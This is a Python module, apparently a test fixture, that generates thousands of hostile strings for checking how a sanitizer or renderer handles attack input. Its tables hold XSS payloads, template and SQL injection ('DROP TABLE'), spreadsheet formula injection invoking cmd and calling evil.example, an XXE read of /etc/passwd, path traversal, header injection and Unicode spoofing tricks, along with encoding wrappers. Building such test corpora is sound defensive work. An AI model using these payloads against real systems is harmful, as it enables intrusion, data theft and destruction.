"""Hostile strings: what would run, load, break out or mislead, in many wrappings and spellings.

Every one that can run calls ``fired()``; every one that can load asks ``evil.example``.
"""

# ruff: noqa: E501  the tables are read line by line

from __future__ import annotations

import hashlib
from urllib.parse import quote

MARKUP = (
    "<script>fired()</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT/x>fired()</SCRIPT >",
    "<img src=x onerror=fired()>", "<img/src=//evil.example/p.gif>", '<img srcset="//evil.example/a 1x">',
    "<image href=x onerror=fired()>", "<svg onload=fired()>", "<svg/onload=fired()//", "<svg><script>fired()</script></svg>",
    '<svg><use href="//evil.example/u.svg#x"/></svg>', '<svg><a xlink:href="javascript:fired()"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin=fired() attributeName=x dur=1s>", '<svg><set attributeName=href to=javascript:fired()>',
    "<svg><foreignObject><body onload=fired()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fired()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=fired()>",
    '<math href="javascript:fired()">x</math>', '<iframe src="javascript:parent.fired()"></iframe>',
    '<iframe srcdoc="<script>parent.fired()</script>"></iframe>', "<iframe src=//evil.example/f></iframe>",
    "<object data=javascript:fired()></object>", "<embed src=//evil.example/e>", "<body onload=fired()>",
    "<input autofocus onfocus=fired()>", "<details open ontoggle=fired()>x</details>",
    "<video><source onerror=fired()></video>", "<audio src=x onerror=fired()></audio>", "<marquee onstart=fired()>x</marquee>",
    "<select autofocus onfocus=fired()></select>", "<textarea autofocus onfocus=fired()></textarea>",
    "<p onpointerenter=fired() style=position:fixed;inset:0>x</p>", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=fired()>",
    '<a href="javascript:fired()">x</a>', '<a href="data:text/html,<script>fired()</script>">x</a>',
    '<a href="//evil.example/" ping="//evil.example/ping">x</a>', "<form action=javascript:fired()><button>x</button></form>",
    "<button formaction=javascript:fired()>x</button>", "<isindex action=javascript:fired() type=submit>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/">', '<meta http-equiv="Content-Security-Policy" content="">',
    '<base href="//evil.example/">', "<link rel=stylesheet href=//evil.example/c.css>", "<link rel=prefetch href=//evil.example/p>",
    "<style>@import'//evil.example/c.css';*{background:url(//evil.example/b)}</style>",
    '<div style="background:url(//evil.example/d)">x</div>', "<template shadowrootmode=open><img src=x onerror=fired()></template>",
    '<noscript><p title="</noscript><img src=x onerror=fired()>"></noscript>', "<xmp><p title='</xmp><img src=x onerror=fired()>'>",
    "<!--><img src=x onerror=fired()>-->", "<![CDATA[><img src=x onerror=fired()>]]>", "<?php echo 1 ?><img src=x onerror=fired()>",
    '<?xml-stylesheet href="javascript:fired()"?>', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)  # fmt: skip
WORDS = (
    "{{constructor.constructor('fired()')()}}", "{{7*7}}{% for c in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ request.app.state.desk }}", "${fired()}", "#{fired()}", "<%= fired() %>", "{{{fired()}}}", "[[${fired()}]]", "{%raw%}x",
    "javascript:fired()", "JaVaScRiPt:fired()", "java\tscript:fired()", " \x01javascript:fired()", "javascript&colon;fired()",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+", "vbscript:fired()", "//evil.example/x", "\\\\evil.example\\x",
    "';fired();//", '";fired();//', "`;fired();//", "\\';fired();//", "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=fired()\\x3e", '"},{"x":"</script><script>fired()</script>', "]]>]]&gt;", "</script>", "<!--<script>",
    "[x](javascript:fired())", "![x](//evil.example/i.png)", '![x](x"onerror="fired())', "<javascript:fired()>", "<https://evil.example/>",
    "[x]: javascript:fired()\n\n[x]", "```\n</code></pre><img src=x onerror=fired()>", "| a | <img src=x onerror=fired()> |\n|--|--|",
    "# <svg onload=fired()>", "> <iframe src=javascript:fired()>", "    <script>fired()</script>", "&lt;script&gt;fired()&lt;/script&gt;",
    '=HYPERLINK("https://evil.example/"&A1,"x")', "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", '",=1+1,"', ";=1+1;", "'=1+1", "＝1+1", "\u200b=1+1", "\ufeff=1+1", " =1+1", "%0A=1+1",
    "expression(fired())", "\\3c script\\3e fired()", "}*{background:url(//evil.example/b)}", "/**/url('//evil.example/u')",
    "\u202egnp.exe", "\u2066x\u2069\u2067y", "a\u200bb\u200cc\u200dd", "раураl.example", "ﬁred\u0301\u0316\u0489" * 3, "\ufeffBOM", "x\x00y",
    "\x1b]0;title\x07\x1b[31m", "\x7f\x85\x9b31m", "line\u2028two\u2029three", "\U000e0041\U000e0042", "\ufffe\uffff", "\ud800x\udfff",
    "../../../../etc/passwd", "..%2f..%2f%00", "C:\\con\\aux", "%s%n%x", "' OR 1=1 --", '"; DROP TABLE articles; --', "\" NEAR \"x", "* AND (",
    "x\r\nset-cookie: a=b", "\r\n\r\n<script>fired()</script>", "a" * 5000 + "<img src=x onerror=fired()>",
)  # fmt: skip
WRAPPERS = (
    "{}", '">{}', "'>{}", "`>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "</noscript>{}", "</a></td>{}",
    "x' autofocus onfocus='fired()' y='{}", 'x" autofocus onfocus="fired()" y="{}', "x onmouseover=fired() {}", "<b {}", "&quot;&gt;{}", "<<{}",
)  # fmt: skip
ENCODINGS = {
    "as it is": lambda s: s,
    "upper case": lambda s: s.upper().replace("FIRED", "fired"),
    "per cent": lambda s: quote(s, safe="", errors="surrogatepass"),
    "entities": lambda s: "".join(f"&#{ord(c)};" if c in "<>\"'&" else c for c in s),
    "entities twice": lambda s: s.replace("&", "&amp;amp;").replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "a NUL inside": lambda s: s.replace("<", "<\x00"),
    "nothing inside": lambda s: s.replace("script", "scr\u200bipt").replace("onerror", "on\u2060error"),
    "full width": lambda s: s.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
    "escapes": lambda s: s.replace("<", "\\u003c").replace(">", "\\u003e"),
    "right to left": lambda s: f"\u202e{s}\u202c",
    "line feeds": lambda s: s.replace("=", "\n=\n"),
}


def hostile(count: int) -> list[str]:
    """So many distinct strings: first every payload as it is, then of all combinations an even choice."""
    every = dict.fromkeys((*MARKUP, *WORDS))
    for payload in (*MARKUP, *WORDS):
        for wrapper in WRAPPERS if len(payload) < 1000 else WRAPPERS[:1]:
            for encoded in ENCODINGS.values():
                every[encoded(wrapper.replace("{}", payload))] = None
    first, rest = list(every)[: len(MARKUP) + len(WORDS)], list(every)[len(MARKUP) + len(WORDS) :]
    rest.sort(key=lambda s: hashlib.sha256(s.encode("utf-8", "surrogatepass")).digest())
    return [*first, *rest][:count]
